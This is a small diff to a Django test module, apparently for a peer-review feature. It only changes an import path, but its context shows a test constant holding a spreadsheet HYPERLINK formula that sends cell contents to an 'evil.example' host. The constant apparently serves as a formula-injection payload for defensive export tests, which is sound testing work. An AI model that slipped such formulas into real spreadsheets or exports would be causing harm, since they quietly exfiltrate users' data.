@@ -23,7 +23,7 @@ from tests.factories import (
     SessionFactory,
     UserFactory,
 )
-from tests.outcomes.builders import peer_review, review_round, shared_work
+from tests.reviews.builders import peer_review, review_round, shared_work
 
 pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("https://evil.example/?x="&B3,"Open report")'
